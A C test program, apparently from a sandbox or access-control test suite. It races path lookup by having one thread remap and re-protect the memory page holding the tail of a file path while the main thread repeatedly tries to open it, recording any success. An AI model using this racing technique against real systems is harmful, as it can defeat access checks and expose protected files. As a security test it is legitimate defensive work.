/*
 * The path lies across two pages, and another thread takes the second one away, or puts another in
 * its place: of a it says that there is a key, which is not so, and of b.
 */
#include "attack.h"
#include <sys/mman.h>

static char *pages;
static size_t page;

static void fill(char *to, char letter)
{
	to[0] = letter;
	strcpy(to + 1, "/key");
}

static void *swap_page(void *unused)
{
	unsigned int state = 17;

	for (long i = 0; !over; i++) {
		char *fresh = mmap(NULL, page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
				   -1, 0);

		fill(fresh, i % 2 ? 'a' : 'b');
		if (i % 7 == 0)
			munmap(pages + page, page);
		if (i % 5 == 0)
			mprotect(pages, page, PROT_NONE);
		dawdle(&state);
		mprotect(pages, page, PROT_READ | PROT_WRITE);
		mremap(fresh, page, page, MREMAP_MAYMOVE | MREMAP_FIXED, pages + page);
		dawdle(&state);
	}
	return unused;
}

int main(int argc, char **argv)
{
	char *path;

	begin(argc, argv);
	page = (size_t)sysconf(_SC_PAGESIZE);
	pages = mmap(NULL, 2 * page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	path = pages + page - strlen(directory) - 1;
	memcpy(path, directory, strlen(directory));
	pages[page - 1] = '/';
	fill(pages + page, 'a');
	start(swap_page, NULL);
	for (tries = 0; tries < wanted; tries++) {
		int fd = open(path, O_RDONLY);

		if (fd >= 0) {
			won("opened");
			close(fd);
		}
	}
	return finish();
}
